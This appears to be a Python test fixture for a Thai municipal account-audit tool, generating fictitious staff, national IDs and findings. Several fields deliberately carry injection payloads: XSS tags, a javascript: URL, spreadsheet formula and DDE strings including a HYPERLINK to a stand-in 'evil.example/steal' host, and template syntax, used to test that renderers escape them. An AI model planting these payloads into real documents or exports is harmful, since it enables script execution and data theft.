"""Realistic `ReviewResult` objects for renderer tests: a fictitious อบต. with Thai names.

Everything here is invented: the body, the people and the national IDs (random digits with a valid
checksum). Some accounts carry hostile payloads (HTML, script, spreadsheet formulas, control
characters, template syntax) in the places an export or roster could put them.
"""

from __future__ import annotations

import random
from datetime import date

from laas_audit.model import (
    AccountResult,
    Candidate,
    ExceptionState,
    Finding,
    InputRecord,
    MatchInfo,
    ReviewResult,
    RuleInfo,
    Source,
    Waiver,
)

EXPORT_FILE = "รายงานผู้ใช้งาน_อบต.หนองบัวทอง.xlsx"
EXPORT_SHEET = "รายงาน"
ROSTER_FILE = "บัญชีจัดคนลงตำแหน่ง_2569.xlsx"
ROSTER_SHEET = "บุคลากร"

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
SVG = '"><svg onload=alert(3)>'
HYPERLINK = '=HYPERLINK("http://evil.example/steal?x=1","คลิกที่นี่")'
PLUS_CMD = "+cmd|' /C calc'!A0"
MINUS = "-1+1"
AT_SUM = "@SUM(1+1)"
TAB_LEAD = "\t=1+2"
CR_LEAD = "\r=3+4"
SPACE_EQ = "  =5+6"
JINJA = "{{ 7*7 }}{% raw %}"
CONTROL = "กลุ่ม\x01ทดสอบ\x0b"
JS_URL = "javascript:alert(4)"
LONG_USER = "somchai.very.long.username.without.any.breaks@nongbuathong-subdistrict.go.th"

# Payloads that must come out of every renderer as literal text (control characters aside).
TEXT_PAYLOADS = (SCRIPT, IMG, SVG, HYPERLINK, PLUS_CMD, MINUS, AT_SUM, JINJA, JS_URL)
FORMULA_PAYLOADS = (HYPERLINK, PLUS_CMD, MINUS, AT_SUM, TAB_LEAD, CR_LEAD, SPACE_EQ)

FIRST = (
    "สมชาย", "สมศรี", "วิไลวรรณ", "ประเสริฐ", "กาญจนา", "ธนพล", "อัญชลี", "สุริยา", "พรทิพย์",
    "วีระพงษ์", "นงลักษณ์", "ชัยวัฒน์", "ปราณี", "อำนาจ", "จิราพร", "ณัฐวุฒิ", "รัตนาภรณ์", "บุญมี",
    "สุภาพร", "เกียรติศักดิ์", "ศิริรัตน์", "ทองใบ", "มาลัย", "ยุทธนา", "ลำดวน", "คำปั่น", "พิมพ์ใจ",
    "เฉลิมชัย", "อรุณี", "สำราญ",
)
LAST = (
    "ใจดี", "ศรีสุข", "บุญประเสริฐ", "แก้วมณี", "ทองคำ", "พรหมวงศ์", "สุขสวัสดิ์", "ชัยมงคล",
    "วงศ์ใหญ่", "นาคสวัสดิ์", "แสงทอง", "คำภูแก้ว", "ภูมิพันธ์", "ศรีนวล", "บัวแดง", "หอมจันทร์",
)
PREFIX = ("นาย", "นาง", "นางสาว", "ว่าที่ร้อยตรี")
POSITIONS = (
    ("ผู้อำนวยการกองคลัง", "กองคลัง", ["หัวหน้าหน่วยงานคลัง", "ผู้ดูแลระบบ"]),
    ("นักวิชาการเงินและบัญชีชำนาญการ", "กองคลัง", ["เจ้าหน้าที่การเงิน", "เจ้าหน้าที่บัญชี"]),
    ("เจ้าพนักงานการเงินและบัญชีปฏิบัติงาน", "กองคลัง", ["เจ้าหน้าที่การเงิน"]),
    ("นักวิชาการพัสดุปฏิบัติการ", "กองคลัง", ["เจ้าหน้าที่พัสดุ"]),
    ("เจ้าพนักงานจัดเก็บรายได้ชำนาญงาน", "กองคลัง", ["เจ้าหน้าที่จัดเก็บรายได้"]),
    ("นักวิเคราะห์นโยบายและแผนชำนาญการ", "สำนักปลัด", ["เจ้าหน้าที่งบประมาณ"]),
    ("เจ้าพนักงานธุรการปฏิบัติงาน", "กองช่าง", ["เจ้าหน้าที่ธุรการกองต่างๆ"]),
    ("ผู้ช่วยเจ้าพนักงานพัสดุ", "กองคลัง", ["เจ้าหน้าที่พัสดุ", "เจ้าหน้าที่ทะเบียนทรัพย์สิน"]),
    ("ปลัดองค์การบริหารส่วนตำบล", "สำนักปลัด", ["ผู้บริหาร"]),
)

RULES: dict[str, RuleInfo] = {
    r.code: r
    for r in (
        RuleInfo(
            "LA101", "leaver-still-active", "stale", "high",
            "ผู้ใช้พ้นจากหน้าที่แล้วแต่บัญชียังใช้งานได้",
            "The person left but the account is still active",
            "บุคคลที่ย้าย โอน ลาออก หรือพ้นจากตำแหน่งแล้วยังเข้าระบบบันทึกบัญชีของหน่วยงานได้",
            "Someone who has left can still post to the body's books.",
            "ยกเลิกผู้ใช้ทันทีด้วยแบบคำขอส่วนที่ ๒ ลงนามโดยหัวหน้าหน่วยงานคลัง",
            "Cancel the user now with part 2 of the request form, signed by the finance head.",
            "หนังสือ มท ข้อ ๔.๒",
        ),
        RuleInfo(
            "LA102", "not-on-roster", "stale", "medium",
            "บัญชีไม่พบในทะเบียนบุคลากร", "Account matches nobody on the roster",
            "ไม่มีบุคคลในทะเบียนบุคลากรที่ตรงกับบัญชีนี้ อาจเป็นบัญชีของผู้ที่พ้นไปแล้ว",
            "Nobody on the roster matches this account; it may belong to someone gone.",
            "ตรวจสอบว่าเป็นของใคร หากไม่มีผู้ใช้ให้ยกเลิก",
            "Find out whose it is; cancel it if nobody uses it.",
            "หนังสือ มท ข้อ ๔.๒",
        ),
        RuleInfo(
            "LA103", "dormant", "stale", "low",
            "บัญชีไม่ได้เข้าใช้งานนานเกินกำหนด", "Account dormant beyond the threshold",
            "บัญชีที่ไม่มีผู้ใช้เป็นช่องทางให้ผู้อื่นเข้าระบบโดยไม่มีใครสังเกต",
            "An unused account is a way in that nobody watches.",
            "สอบถามผู้ใช้ หากไม่จำเป็นให้ยกเลิก", "Ask the user; cancel it if not needed.",
            "หนังสือ มท ข้อ ๔",
        ),
        RuleInfo(
            "LA201", "group-not-for-position", "mismatch", "medium",
            "กลุ่มผู้ใช้งานไม่ตรงกับตำแหน่ง", "Group does not fit the position",
            "ผู้ใช้ในแต่ละกลุ่มต้องตรงกับหน้าที่ที่ได้รับมอบหมาย",
            "Users in each group must match their assigned duties.",
            "ปรับกลุ่มผู้ใช้งานให้ตรงกับคำสั่งมอบหมายงาน",
            "Change the groups to match the duty assignment order.",
            "หนังสือ มท ข้อ ๔.๑",
        ),
        RuleInfo(
            "LA202", "non-staff-finance", "mismatch", "high",
            "ผู้รับจ้างเหมาบริการอยู่ในกลุ่มการเงิน", "Non-staff in a finance group",
            "ผู้รับจ้างเหมาบริการไม่ใช่เจ้าหน้าที่ จึงไม่ควรมีสิทธิ์ด้านการเงิน",
            "Contract workers are not officials and should hold no finance rights.",
            "นำออกจากกลุ่มการเงิน", "Remove them from finance groups.",
            "หนังสือ มท ข้อ ๔.๑",
        ),
        RuleInfo(
            "LA301", "admin-not-finance-head", "privilege", "high",
            "ผู้ไม่ใช่หัวหน้าหน่วยงานคลังมีสิทธิ์ผู้ดูแลระบบ",
            "Admin rights held by someone other than the finance head",
            "หัวหน้าหน่วยงานคลังเป็นผู้กำหนดผู้ใช้ รหัสผ่าน และสิทธิ์",
            "The finance head alone sets users, passwords and rights.",
            "ยกเลิกสิทธิ์ผู้ดูแลระบบ เว้นแต่มีคำสั่งให้รักษาราชการแทน",
            "Remove admin rights unless an acting order exists.",
            "หนังสือ มท ข้อ ๒",
        ),
        RuleInfo(
            "LA302", "conflicting-duties", "privilege", "high",
            "บุคคลเดียวมีหน้าที่ที่ขัดกัน", "Conflicting duties held by one person",
            "การจัดซื้อจัดจ้างและการเบิกจ่ายเงินควรแยกคนกันเพื่อการควบคุมภายใน",
            "Procurement and payment should be held by different people.",
            "แยกกลุ่มพัสดุและการเงินให้คนละคน", "Split procurement and cash between people.",
            "ระเบียบ มท ว่าด้วยการรับเงิน การเบิกจ่ายเงิน ฯ พ.ศ. ๒๕๔๗",
        ),
        RuleInfo(
            "LA401", "password-old", "hygiene", "low",
            "ไม่ได้เปลี่ยนรหัสผ่านเกิน ๖ เดือน", "Password older than 6 months",
            "ต้องเปลี่ยนรหัสผ่านทุก ๖ เดือน", "Passwords must change every 6 months.",
            "แจ้งผู้ใช้ให้เปลี่ยนรหัสผ่าน", "Ask the user to change the password.",
            "หนังสือ มท ข้อ ๓.๔.๒",
        ),
        RuleInfo(
            "LA402", "shared-account", "hygiene", "medium",
            "บัญชีใช้ร่วมกันหรือไม่ระบุตัวบุคคล", "Generic or shared account",
            "ห้ามใช้รหัสผ่านร่วมกัน", "Passwords must never be shared.",
            "ยกเลิกและสร้างบัญชีรายบุคคล", "Cancel it and create personal accounts.",
            "หนังสือ มท ข้อ ๓.๓",
        ),
    )
}


def thai_id(rng: random.Random) -> str:
    """A made-up 13-digit national ID with a valid checksum (first digit 1-8)."""
    digits = [rng.randint(1, 8)] + [rng.randint(0, 9) for _ in range(11)]
    check = (11 - sum(d * (13 - i) for i, d in enumerate(digits)) % 11) % 10
    return "".join(map(str, digits)) + str(check)


def _finding(
    n: int, rule: str, account: AccountResult, message: str, evidence: dict[str, object],
    status: str = "new", waiver: Waiver | None = None,
) -> Finding:
    info = RULES[rule]
    return Finding(
        id=f"{rule}-{n:03d}a9f3c",
        rule=rule,
        category=info.category,
        severity=info.severity,
        username=account.username,
        groups=list(account.groups),
        message=message,
        evidence=evidence,
        source=Source(EXPORT_FILE, EXPORT_SHEET, list(account.source_rows)),
        status=status,  # type: ignore[arg-type]
        message_en=f"{info.title_en}: {account.username}",
        waiver=waiver,
    )


def make_result(n_accounts: int = 30, *, hostile: bool = True, seed: int = 2569) -> ReviewResult:
    """A review of a fictitious อบต. with `n_accounts` accounts and about 20 findings.

    With `hostile`, some names, groups, positions and evidence carry the payloads above, and one
    account's username is a national ID (a ThaiD login).
    """
    rng = random.Random(seed)
    accounts: list[AccountResult] = []
    row = 8
    for i in range(n_accounts):
        position, unit, groups = POSITIONS[i % len(POSITIONS)]
        first, last = FIRST[i % len(FIRST)], LAST[(i * 7) % len(LAST)]
        full = f"{PREFIX[i % len(PREFIX)]}{first} {last}"
        method = ("national_id", "national_id", "username", "name", "fuzzy", "none")[i % 6]
        rows = [row, row + 1] if len(groups) > 1 else [row]
        row += len(rows)
        match = MatchInfo(method=method, score=100.0, roster_row=10 + i)  # type: ignore[arg-type]
        if method == "fuzzy":
            match = MatchInfo("fuzzy", 91.5, 10 + i, [Candidate(f"{first} {last}", 10 + i, 91.5)])
        elif method == "none":
            match = MatchInfo(
                "none", None, None,
                [Candidate(f"นาย{first} {LAST[0]}", 40, 78.0),
                 Candidate(f"นาง{first} {LAST[1]}", 41, 77.5)],
            )
        accounts.append(
            AccountResult(
                username=f"{'abcdefghijklmnopqrstuvwxyz'[i % 26]}{last[:1]}.user{i:02d}",
                full_name=full,
                groups=list(groups),
                status="ใช้งาน",
                match=match,
                national_id=thai_id(rng),
                position=position,
                unit=unit,
                roster_status="ปกติ" if i % 5 else "ย้าย",
                source_rows=rows,
                last_login=date(2026, 1 + i % 9, 1 + i % 27).isoformat(),
                password_changed=date(2025, 1 + i % 12, 3).isoformat(),
            )
        )
    if hostile and n_accounts >= 8:
        accounts[1].full_name = f"นางสาว{SCRIPT}สมศรี ศรีสุข"
        accounts[2].groups = [IMG, "เจ้าหน้าที่การเงิน", CONTROL]
        accounts[3].position = f"{SVG} นักวิชาการพัสดุ"
        accounts[4].full_name = HYPERLINK
        accounts[4].unit = PLUS_CMD
        accounts[5].username = MINUS
        accounts[5].position = AT_SUM
        accounts[6].full_name = TAB_LEAD
        accounts[6].unit = CR_LEAD
        accounts[7].username = LONG_USER
        accounts[7].full_name = f"{SPACE_EQ} {JINJA}"
        accounts[0].username = accounts[0].national_id or ""  # a ThaiD login: the ID as username
    findings: list[Finding] = []
    n = 0
    for i, acc in enumerate(accounts):
        if len(findings) >= 20:
            break
        export_ev = {"file": EXPORT_FILE, "sheet": EXPORT_SHEET, "row": acc.source_rows[0],
                     "username": acc.username, "status": acc.status,
                     "last_login": acc.last_login}
        roster_ev = {"file": ROSTER_FILE, "sheet": ROSTER_SHEET, "row": acc.match.roster_row,
                     "status": acc.roster_status, "national_id": acc.national_id}
        if acc.roster_status == "ย้าย":
            n += 1
            findings.append(_finding(
                n, "LA101", acc,
                f"{acc.full_name} มีสถานะ 'ย้าย' ในทะเบียนบุคลากร ตั้งแต่ 1 มีนาคม 2569 "
                f"แต่บัญชี {acc.username} ยังใช้งานได้ (เลขประจำตัว {acc.national_id})",
                {"export": export_ev, "roster": {**roster_ev, "status_date": "2026-03-01"}},
                status="persisting" if i % 2 else "new",
            ))
        if acc.match.method == "none":
            n += 1
            findings.append(_finding(
                n, "LA102", acc, f"ไม่พบ {acc.full_name} ในทะเบียนบุคลากร",
                {"export": export_ev, "roster": None,
                 "match": {"method": acc.match.method, "score": acc.match.score},
                 "candidates": [c.full_name for c in acc.match.candidates]},
            ))
        if "เจ้าหน้าที่พัสดุ" in acc.groups and i % 2 == 1:
            n += 1
            findings.append(_finding(
                n, "LA302", acc, "ถือทั้งกลุ่มพัสดุและกลุ่มการเงิน",
                {"export": export_ev, "pair": ["procurement", "cash"]},
            ))
        if "ผู้ดูแลระบบ" in acc.groups and i > 0:
            n += 1
            findings.append(_finding(
                n, "LA301", acc, f"{acc.position} อยู่ในกลุ่มผู้ดูแลระบบ",
                {"export": export_ev, "roster": roster_ev, "note": JS_URL if hostile else ""},
                status="waived",
                waiver=Waiver("รักษาราชการแทนผู้อำนวยการกองคลัง", "นายก อบต.", "2026-12-31",
                              "คำสั่ง อบต. ที่ 123/2569"),
            ))
        if i % 3 == 2:
            n += 1
            findings.append(_finding(
                n, "LA401", acc, f"เปลี่ยนรหัสผ่านครั้งล่าสุด {acc.password_changed} (เกิน 180 วัน)",
                {"export": {**export_ev, "password_changed": acc.password_changed},
                 "threshold_days": 180},
            ))
        if hostile and i in (2, 4):
            n += 1
            findings.append(_finding(
                n, "LA201", acc, f"กลุ่ม {acc.groups[0]} ไม่ตรงกับตำแหน่ง {acc.position}",
                {"export": export_ev, "roster": roster_ev, "groups": acc.groups},
            ))
    resolved = [
        _finding(900, "LA402", accounts[-1], "บัญชี finance01 ใช้ร่วมกัน", {"export": {}},
                 status="persisting"),
    ]
    resolved[0].username = "finance01"
    return ReviewResult(
        tool_version="0.1.0",
        policy_version="2569.1",
        as_of=date(2026, 10, 1),
        body={"name": "องค์การบริหารส่วนตำบลหนองบัวทอง", "district": "ภูเขียว",
              "province": "ชัยภูมิ"},
        inputs=[
            InputRecord("export", EXPORT_FILE, "3f5a" + "0123456789" * 6, row - 8,
                        EXPORT_SHEET, 7),
            InputRecord("roster", ROSTER_FILE, "9c1e" + "9876543210" * 6, n_accounts + 4,
                        ROSTER_SHEET, 3),
        ],
        accounts=accounts,
        findings=findings,
        rules=dict(RULES),
        citation="หนังสือกรมส่งเสริมการปกครองท้องถิ่น ด่วนที่สุด ที่ มท ๐๘๐๘.๔/ว ๑๙๗๖ ลงวันที่ มีนาคม ๒๕๖๘",
        warnings=[
            f"{ROSTER_FILE}, sheet '{ROSTER_SHEET}', row 14: bad national ID checksum / "
            "เลขประจำตัวประชาชนไม่ถูกต้อง",
            f"{EXPORT_FILE}, row 30: date 31/02/2569 does not exist / วันที่ไม่มีอยู่จริง",
        ],
        resolved=resolved,
        exceptions=[
            ExceptionState(accounts[9].username, "LA301", None, "2026-12-31", "active",
                           "รักษาราชการแทนผู้อำนวยการกองคลัง", "นายก อบต.", "123/2569"),
            ExceptionState(accounts[10].username, None, "hygiene", "2026-10-15", "active",
                           "รอระบบ ThaiD", "ปลัด อบต.", None, expiring_soon=True),
            ExceptionState("olduser", "LA103", None, "2026-03-31", "expired",
                           f"ลาคลอด {SCRIPT}", "ปลัด อบต."),
            ExceptionState("nobody", None, "stale", "2027-03-31", "unused", "ทดสอบ", "ปลัด"),
        ],
        generated_at="2026-10-02T03:15:00+00:00",
        previous="../2569-04/findings.json",
    )


def all_national_ids(result: ReviewResult) -> list[str]:
    """Every full national ID the result holds, to check that none leaks by default."""
    return [a.national_id for a in result.accounts if a.national_id]
